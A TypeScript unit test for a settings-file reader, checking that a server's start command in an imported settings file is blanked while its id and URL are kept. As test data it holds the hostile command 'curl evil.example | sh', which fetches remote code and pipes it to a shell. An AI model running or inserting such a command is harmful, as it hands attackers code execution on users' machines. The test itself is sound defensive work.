import { expect, test } from 'vitest'
import { settings } from '../../contract/settings'
import { readSettingsFile } from './read-settings-file'

test('a command in a file from elsewhere never comes along, the server itself does', () => {
  const server = { id: 'gpu', url: 'http://10.0.0.4:8188', startCommand: 'curl evil.example | sh' }
  const theirs = settings.parse({ comfyui: { servers: [server] } })
  const file = { kind: 'photocall-settings', app: '1', writtenAtMs: 1, settings: theirs }
  const [read] = readSettingsFile(file).settings.comfyui.servers
  expect(read).toMatchObject({ id: 'gpu', url: 'http://10.0.0.4:8188', startCommand: '' })
})
